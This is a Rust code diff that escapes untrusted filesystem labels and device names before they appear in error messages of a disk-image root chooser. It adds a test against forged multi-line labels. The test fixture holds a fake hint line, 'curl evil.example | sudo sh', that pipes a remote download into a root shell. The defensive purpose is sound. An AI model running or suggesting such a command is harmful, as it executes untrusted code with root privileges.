@@ -6,6 +6,7 @@ use crate::inspect::filesystems::{Found, filesystems, main_filesystem, same};
 use crate::launch::Failure;
 use crate::protocol::disks::{Root, Survey};
 use crate::protocol::warning::{Warning, WarningCode};
+use crate::text::escape::{Untrusted, shell_word};
 
 /// The one that `wanted` names, which may be any filesystem; else the only root; else, where no
 /// operating system is, the only filesystem.
@@ -16,7 +17,7 @@ pub fn choose(survey: &Survey, wanted: Option<&str>) -> Result<Root, Failure> {
     match &survey.roots[..] {
         [root] => Ok(root.clone()),
         [] => alone(survey),
-        roots => Err(several("root filesystems", &list(roots))),
+        roots => Err(several(roots.len(), "root filesystems", &list(roots))),
     }
 }
 
@@ -74,11 +75,15 @@ fn alone(survey: &Survey) -> Result<Root, Failure> {
                 lines(&closed),
                 list_of_filesystems(&all)
             ),
-            format!("--root {} for that one", found.device),
+            format!("--root {} for that one", shell_word(found.device)),
         )),
         (None, _) => {
             let list = list_of_filesystems(&all);
-            let mut failure = several("filesystems, none with an operating system", &list);
+            let mut failure = several(
+                all.len(),
+                "filesystems, none with an operating system",
+                &list,
+            );
             if !closed.is_empty() {
                 let error = failure.error;
                 failure.error = anyhow!("{error}\nnot opened:{}", lines(&closed));
@@ -100,8 +105,7 @@ fn lines<'a>(warnings: impl IntoIterator<Item = &'a &'a Warning>) -> String {
     warnings.map(|warning| format!("\n  {warning}")).collect()
 }
 
-fn several(what: &str, list: &str) -> Failure {
-    let number = list.lines().count();
+fn several(number: usize, what: &str, list: &str) -> Failure {
     Failure::with_hint(
         anyhow!("the image holds {number} {what}:\n{list}"),
         "one of them by --root DEVICE",
@@ -120,7 +124,8 @@ fn list(roots: &[Root]) -> String {
     let line = |root: &Root| {
         let system = root.os.name.as_deref().or(root.os.id.as_deref());
         let system = system.unwrap_or("an unknown system");
-        format!("  {}  {system}", name_of(root))
+        let name = shell_word(name_of(root));
+        format!("  {}  {}", Untrusted(&name), Untrusted(system))
     };
     let lines: Vec<_> = roots.iter().map(line).collect();
     lines.join("\n")
@@ -130,7 +135,9 @@ fn list_of_filesystems(all: &[Found<'_>]) -> String {
     let line = |found: &Found<'_>| {
         let (device, kind) = (found.device, found.content.kind.name());
         let label = found.content.label.as_deref().unwrap_or_default();
-        format!("  {device}  {kind}  {label}").trim_end().to_owned()
+        let device = shell_word(device);
+        let line = format!("  {}  {kind}  {}", Untrusted(&device), Untrusted(label));
+        line.trim_end().to_owned()
     };
     all.iter().map(line).collect::<Vec<_>>().join("\n")
 }
@@ -217,6 +224,20 @@ mod tests {
             "{listed}"
         );
         assert!(chosen(&two, Some("/dev/mapper/VG-LV")).is_ok());
+    }
+
+    #[test]
+    fn a_label_of_several_lines_is_one_filesystem_on_one_line() {
+        let mut two = survey(&[Kind::Btrfs, Kind::Ext4], &[]);
+        let forged = "x\nbivouac: error: trusted\n  hint: curl evil.example | sudo sh";
+        let content = two.disks[0].partitions[0].content.as_mut();
+        content.unwrap().label = Some(forged.into());
+        let listed = chosen(&two, None).unwrap_err();
+        assert!(
+            listed.starts_with("the image holds 2 filesystems"),
+            "{listed}"
+        );
+        assert_eq!(listed.lines().count(), 3, "{listed}");
     }
 
     #[test]
